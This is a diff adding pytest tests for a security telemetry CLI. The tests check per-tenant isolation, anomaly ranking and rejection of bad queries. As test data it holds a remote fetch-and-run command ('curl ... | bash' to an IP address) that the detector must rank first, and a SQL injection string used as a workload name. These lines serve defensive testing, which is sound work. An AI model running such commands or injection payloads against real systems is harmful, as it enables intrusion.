@@ -1,0 +1,98 @@
+"""The query side against a running receiver with bearer-token tenants: `procsight search` / `procsight top`
+over HTTP see only the caller's tenant, rank the attack first, and bind hostile input."""
+
+from __future__ import annotations
+
+import json
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from conftest import WEB_EVENTS, Stack, receiver_config, write_config
+from otlp_sink import OtlpSink
+from test_e2e_clients import send_with_python_sdk
+
+from otlp_receiver.exporters.clickhouse.transport import ChdbTransport
+from otlp_receiver.pipeline import Service
+from procsight.cli import main
+
+TOKENS = {"team-a": "token-of-team-a", "team-b": "token-of-team-b"}
+
+
+@pytest.fixture
+def tenant_stack(tmp_path: Path) -> Iterator[Stack]:
+    with OtlpSink() as sink:
+        config = receiver_config(tmp_path, {"otlp_http/forward": {"endpoint": sink.http_url}})
+        config["extensions"] = {"bearertokenauth": {"tokens": [
+            {"token": token, "tenant": tenant} for tenant, token in TOKENS.items()]}}
+        config["service"]["extensions"] = ["bearertokenauth"]
+        for protocol in ("grpc", "http"):
+            config["receivers"]["otlp"]["protocols"][protocol]["auth"] = {"authenticator": "bearertokenauth"}
+        service = Service.from_config_file(write_config(tmp_path / "receiver.yaml", config))
+        service.start()
+        clickhouse = ChdbTransport(str(tmp_path / "clickhouse"))
+        try:
+            yield Stack(service, sink, clickhouse)
+        finally:
+            clickhouse.close()
+            service.shutdown(timeout=10)
+
+
+def run_cli(args: list[str], token: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]):
+    monkeypatch.setenv("PROCSIGHT_TOKEN", token)
+    code = main(args)
+    captured = capsys.readouterr()
+    return code, captured.out, captured.err
+
+
+def test_search_and_top_over_http_per_tenant(tenant_stack: Stack, monkeypatch: pytest.MonkeyPatch,
+                                             capsys: pytest.CaptureFixture[str]) -> None:
+    from opentelemetry.exporter.otlp.proto.http._log_exporter import OTLPLogExporter
+
+    http = tenant_stack.service.http_endpoint()
+    exporter = OTLPLogExporter(endpoint=f"http://{http}/v1/logs",
+                               headers={"Authorization": f"Bearer {TOKENS['team-a']}"})
+    assert send_with_python_sdk(exporter, WEB_EVENTS).exported == len(WEB_EVENTS)
+    rows = tenant_stack.rows(len(WEB_EVENTS))
+    assert {row["TenantId"] for row in rows} == {"team-a"}
+    endpoint = f"http://{http}"
+
+    code, out, err = run_cli(["search", "curl piped to bash", "--endpoint", endpoint, "--json"], TOKENS["team-a"],
+                             monkeypatch, capsys)
+    assert code == 0, err
+    results = json.loads(out)["results"]
+    assert any("curl" in result["command_line"] for result in results[:3])
+    assert all(result["workload"] == "web" for result in results)
+    assert [r["distance"] for r in results] == sorted(r["distance"] for r in results)
+
+    code, out, err = run_cli(["top", "--endpoint", endpoint, "--min-score", "0", "--since", "1h"], TOKENS["team-a"],
+                             monkeypatch, capsys)
+    assert code == 0, err
+    lines = out.splitlines()
+    assert lines[0] == "Top anomalies since 1h (score >= 0):"
+    assert "sh -c curl -s http://203.0.113.7/x.sh | bash" in "\n".join(lines[1:4])  # ranked at the top
+    assert "why: " in out and "lineage: " in out
+
+    # team-b sees none of team-a's events; a hostile workload name is data, not SQL
+    code, out, _ = run_cli(["search", "curl bash", "--endpoint", endpoint, "--json"], TOKENS["team-b"],
+                           monkeypatch, capsys)
+    assert code == 0 and json.loads(out)["results"] == []
+    code, out, _ = run_cli(["top", "--endpoint", endpoint, "--json", "--min-score", "0",
+                            "--workload", "web' OR '1'='1"], TOKENS["team-a"], monkeypatch, capsys)
+    assert code == 0 and json.loads(out)["results"] == []
+
+    code, _, err = run_cli(["top", "--endpoint", endpoint], "wrong-token", monkeypatch, capsys)
+    assert code == 1 and "HTTP 401" in err and "PROCSIGHT_TOKEN" in err
+
+
+def test_bad_query_requests_are_400(tenant_stack: Stack) -> None:
+    http = tenant_stack.service.http_endpoint()
+    request = urllib.request.Request(f"http://{http}/telemetry/security/search", method="POST",
+                                     data=json.dumps({"query": "x", "limit": 0}).encode(),
+                                     headers={"Authorization": f"Bearer {TOKENS['team-a']}",
+                                              "Content-Type": "application/json"})
+    with pytest.raises(urllib.error.HTTPError) as caught:
+        urllib.request.urlopen(request, timeout=10)
+    assert caught.value.code == 400
